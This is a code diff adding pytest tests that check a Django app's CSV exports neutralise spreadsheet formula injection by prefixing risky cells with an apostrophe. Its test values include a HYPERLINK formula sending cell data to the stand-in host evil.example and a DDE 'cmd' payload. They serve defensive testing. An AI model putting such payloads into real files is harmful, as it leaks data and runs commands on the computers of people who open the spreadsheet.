@@ -79,3 +79,49 @@ def test_csv_query_count_is_one_per_chunk(api, django_assert_max_num_queries):
             api.get("/api/v1/agencies/", {"format": "csv", "county": "32510", "has_ori": "false"})
         )
     assert len(rows) == 150
+
+
+@pytest.mark.parametrize(
+    ("value", "cell"),
+    [
+        (
+            '=HYPERLINK("https://evil.example/?"&A1,"click")',
+            '\'=HYPERLINK("https://evil.example/?"&A1,"click")',
+        ),
+        ("+1+cmd|' /C calc'!A0", "'+1+cmd|' /C calc'!A0"),
+        ("-2+3", "'-2+3"),
+        ("@SUM(A1:A9)", "'@SUM(A1:A9)"),
+        ("\t=1", "'\t=1"),
+        ("\r=1", "'\r=1"),
+        ("-26", "-26"),
+        ("-115.17", "-115.17"),
+        ("plain = fine", "plain = fine"),
+        (["ok", "=1+1"], "ok; '=1+1"),
+    ],
+)
+def test_csv_cells_that_a_spreadsheet_would_run_are_neutralised(value, cell):
+    from config.renderers import csv_cell
+
+    assert csv_cell(value) == cell
+
+
+def test_a_formula_title_is_exported_inert(api, django_user_model):
+    from records_requests.services import request_create
+    from tests import factories
+
+    organizer = django_user_model.objects.create_user("o")
+    request_create(
+        requester=organizer,
+        agency=factories.agency("Clark County Sheriff"),
+        title='=HYPERLINK("https://evil.example","x")',
+        records_sought="r",
+    )
+    rows = read_csv(api.get("/api/v1/records-requests/", {"format": "csv"}))
+    assert rows[0]["title"] == '\'=HYPERLINK("https://evil.example","x")'
+
+
+def test_the_agreements_page_csv_is_neutralised_too(client):
+    from agreements.views import csv_safe
+
+    assert csv_safe("=1+1") == "'=1+1"
+    assert client.get("/agreements/", {"format": "csv"}).status_code == 200
